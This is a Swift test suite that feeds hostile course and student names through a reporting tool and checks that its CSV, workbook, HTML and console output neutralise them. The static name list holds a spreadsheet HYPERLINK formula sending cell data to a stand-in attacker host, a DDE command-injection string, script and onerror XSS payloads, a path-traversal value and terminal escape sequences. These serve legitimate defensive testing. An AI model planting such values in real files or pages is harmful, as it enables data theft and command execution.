import CanvasSandbox
import Foundation
import Testing

@Suite("Hostile data, through the whole")
struct HostileDataTests {
    private static let formula = #"=HYPERLINK("http://evil.invalid/?"&A1,"click")"#
    private static let names: [String] = [
        formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTab", "\rReturn",
        "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{{raw}}} {{#loop}}",
        "null\u{1}bell\u{7}esc\u{1B}[31m", "rtl \u{202E}gpj.exe", "not a character \u{FFFE}\u{FFFF}",
        "_x0041_ literal", "line\nbreak\r\nand \u{2028} separator", #"quote " and ,comma"#,
        String(repeating: "long ", count: 2000), "../../etc/passwd", "🇫🇷👩‍👩‍👧‍👧 é é", "' apostrophe", "",
    ]

    @Test("formulas, markup, control characters, long names and paths are harmless in every report")
    func harmless() async throws {
        try await withScratchDirectory { scratch in
            let samples = try hostileSamples(in: scratch)
            try await TestCanvas.run(samples: samples) { canvas in
                let list = try write("103\n", to: "\(scratch)/list.txt")
                let out = "\(scratch)/reports"
                let outcome = try await Tool.command(
                    ["run", list, "--out", out, "--format", "csv,xlsx,html,ndjson", "--as-of", "2026-11-20T12:00:00Z"],
                    environment: canvas.environment
                )
                #expect(outcome.ending == .exited(0), "\(outcome.diagnostics)")
                let reports = try ReportFiles(whole: out)
                #expect(reports.paths.filter { $0.hasPrefix("courses/") } == ["courses/103.html"])
                try expectNoLiveCells(reports)
                try expectNoLiveMarkup(reports)
                try expectPlainWorkbook("\(out)/override-dates.xlsx")
                #expect(reports["students.ndjson"]?.contains("\n\n") == false)
            }
        }
    }

    @Test("explain, errors and wrong usage print no control characters")
    func printed() async throws {
        try await withScratchDirectory { scratch in
            let samples = try hostileSamples(in: scratch)
            let snapshot = "\(scratch)/snapshot.sqlite"
            let list = try write("103\n", to: "\(scratch)/list.txt")
            let fetched = try await Tool.command([
                "fetch", list, "--sandbox", "--samples", samples, "--snapshot", snapshot, "-v",
            ])
            #expect(fetched.ending == .exited(0), "\(fetched.diagnostics)")
            var printed = [fetched]
            let question = ["explain", "--snapshot", snapshot, "--course", "103", "--item", "assignment:103401"]
            // Their name has an escape in it.
            let student = ["--student", "103010"]
            printed.append(try await Tool.command(question + student))
            let json = try await Tool.command(question + student + ["--format", "json"])
            #expect(throws: Never.self) { try JSONSerialization.jsonObject(with: Data(json.output.utf8)) }
            printed.append(json)
            #expect(printed.allSatisfy { $0.ending == .exited(0) })
            printed.append(try await Tool.command(question + ["--student", "\u{1B}[31m \u{202E}"]))
            printed.append(try await Tool.command(["explain", "--\u{1B}[31m"]))
            for outcome in printed {
                let text = outcome.output + outcome.diagnostics
                #expect(!text.unicodeScalars.contains { $0.properties.generalCategory == .control && $0 != "\n" })
                #expect(!text.contains("\u{202E}") && !text.contains("\u{2028}"))
            }
            let all = printed.map { $0.output + $0.diagnostics }.joined()
            for escape in [#"\u001b"#, #"\u0007"#, #"\u202e"#] { #expect(all.contains(escape), "\(escape)") }
        }
    }

    private func expectNoLiveCells(_ reports: ReportFiles) throws {
        for name in ["students.csv", "sections.csv", "overrides.csv", "findings.csv", "courses.csv"] {
            let rows = CSVRows(try #require(reports[name]))
            #expect(!rows.rows.isEmpty || name == "findings.csv")
            for row in rows.rows {
                #expect(row.count == rows.header.count, "\(name)")
                for (column, cell) in row {
                    let first = cell.unicodeScalars.first
                    #expect(
                        first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true,
                        "\(name), \(column): \(cell)"
                    )
                }
            }
        }
        let students = CSVRows(reports["students.csv"] ?? "").rows
        #expect(students.contains { $0["student_name"] == "'" + Self.formula })
    }

    private func expectNoLiveMarkup(_ reports: ReportFiles) throws {
        for name in ["index.html", "courses/103.html"] {
            let page = try #require(reports[name])
            #expect(!page.contains("<script>alert"), "\(name)")
            #expect(!page.contains("<img src=x"), "\(name)")
            #expect(
                !page.unicodeScalars.contains { $0.value < 0x20 && !"\n\t\r".unicodeScalars.contains($0) },
                "\(name)"
            )
        }
    }

    private func expectPlainWorkbook(_ path: String) throws {
        for (part, bytes) in try ReportFiles.parts(of: path) where part.hasPrefix("xl/worksheets/sheet") {
            #expect(bytes.range(of: Data("<f>".utf8)) == nil, "\(part) has a formula")
            // Well-formed XML to a strict reader, without the characters that XML forbids.
            let parser = XMLDocumentCheck(bytes)
            #expect(parser.problem == nil, "\(part)")
        }
    }

    /// The samples with one course whose course, section, student, item and override names are all hostile.
    private func hostileSamples(in scratch: String) throws -> String {
        let samples = "\(scratch)/samples"
        try FileManager.default.createDirectory(atPath: samples, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: "\(Tool.samples)/institution", toPath: "\(samples)/institution")
        let file = "\(samples)/institution/courses/103-sanskrit.json"
        let data = try Data(contentsOf: URL(fileURLWithPath: file))
        var course = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        course["name"] = "../../../" + Self.names[6]
        course["course_code"] = Self.formula
        for key in ["sections", "people", "items", "modules"] {
            var list = try #require(course[key] as? [[String: Any]], "\(key)")
            for index in list.indices {
                let name = key == "items" ? "title" : "name"
                let hostile = Self.names[index % (Self.names.count - 1)]
                list[index][name] = hostile
                if key == "people" { list[index]["sortable_name"] = hostile }
            }
            course[key] = list
        }
        try JSONSerialization.data(withJSONObject: course).write(to: URL(fileURLWithPath: file))
        return samples
    }
}
